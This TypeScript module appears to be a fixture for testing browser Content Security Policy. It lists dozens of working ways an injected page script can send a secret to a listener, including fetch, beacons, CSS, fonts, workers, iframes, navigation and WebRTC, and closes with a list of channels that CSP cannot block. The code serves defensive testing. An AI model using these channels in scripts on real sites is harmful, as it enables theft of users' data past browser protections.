/**
 * Ways in which a script that got into the page could send a secret out, each to a listener that
 * knows it by the host's name and the path. Every function runs inside the page and is on its own
 * there. https://www.w3.org/TR/CSP3/#exfiltration
 */

/** Where to send it: over HTTP, over a WebSocket, and to a STUN server. */
export type Target = { url: string; socket: string; stun: string };

export type Attempt = {
  name: string;
  /** May take the page away, and so needs one of its own. */
  navigates?: true;
  run(target: Target): unknown;
};

const add = (name: string, run: Attempt['run']): Attempt => ({ name, run });
const away = (name: string, run: Attempt['run']): Attempt => ({ name, run, navigates: true });

export const attempts: readonly Attempt[] = [
  add('fetch', ({ url }) => fetch(url)),
  add('fetch-no-cors', ({ url }) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'secret' })),
  add('fetch-keepalive', ({ url }) => fetch(url, { keepalive: true, mode: 'no-cors' })),
  add('xhr', ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  }),
  add('beacon', ({ url }) => navigator.sendBeacon(url, 'secret')),
  add('event-source', ({ url }) => void new EventSource(url)),
  add('web-socket', ({ socket }) => void new WebSocket(socket)),
  add('image', ({ url }) => {
    new Image().src = url;
  }),
  add('image-srcset', ({ url }) => {
    new Image().srcset = `${url} 1x`;
  }),
  add('svg-image', ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  }),
  add('style-background', ({ url }) => {
    const box = document.createElement('div');
    box.style.backgroundImage = `url(${url})`;
    box.textContent = '.';
    document.body.append(box);
  }),
  add('constructed-sheet', ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${url}) }`);
    document.adoptedStyleSheets.push(sheet);
  }),
  add('style-element', ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('style'), { textContent: `@import '${url}';` }),
    );
  }),
  add('stylesheet', ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }));
  }),
  add('font', ({ url }) => new FontFace('Secret', `url(${url})`).load()),
  add('script', ({ url }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: url }));
  }),
  add('import', ({ url }) => import(/* @vite-ignore */ url)),
  add('worker', ({ url }) => {
    const code = URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`]));
    return new Worker(code);
  }),
  add('audio', ({ url }) => {
    new Audio(url).load();
  }),
  add('video-poster', ({ url }) => {
    document.body.append(Object.assign(document.createElement('video'), { poster: url }));
  }),
  add('track', ({ url }) => {
    const video = document.createElement('video');
    const track = Object.assign(document.createElement('track'), {
      src: url,
      kind: 'captions',
      default: true,
    });
    video.crossOrigin = '';
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  }),
  add('object', ({ url }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: url }));
  }),
  add('embed', ({ url }) => {
    document.body.append(Object.assign(document.createElement('embed'), { src: url }));
  }),
  add('frame', ({ url }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
  }),
  add('frame-srcdoc', ({ url }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${url}">`;
    document.body.append(frame);
  }),
  add('prefetch', ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }));
  }),
  add('preload', ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url }),
    );
  }),
  add('module-preload', ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: url }));
  }),
  add('webrtc', async ({ stun }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('secret');
    await peer.setLocalDescription(await peer.createOffer());
  }),
  away('location', ({ url }) => {
    location.href = url;
  }),
  away('window-open', ({ url }) => void window.open(url)),
  away('link', ({ url }) => {
    Object.assign(document.createElement('a'), { href: url }).click();
  }),
  away('link-ping', ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: url });
    document.body.append(link);
    link.click();
  }),
  away('meta-refresh', ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}`;
    document.head.append(meta);
  }),
  away('form', ({ url }) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  }),
  away('base', ({ url }) => {
    document.head.append(Object.assign(document.createElement('base'), { href: `${url}/` }));
    new Image().src = 'relative';
  }),
];

/**
 * What no content policy of today's browsers closes: leaving for another page, in four spellings,
 * and WebRTC. `navigate-to` was taken out of the standard and `webrtc` is in no browser. A hint to
 * connect (`preconnect`) would tell a host's name; the browser of these tests follows none.
 */
export const unclosable: readonly string[] = ['link', 'location', 'meta-refresh', 'webrtc', 'window-open'];
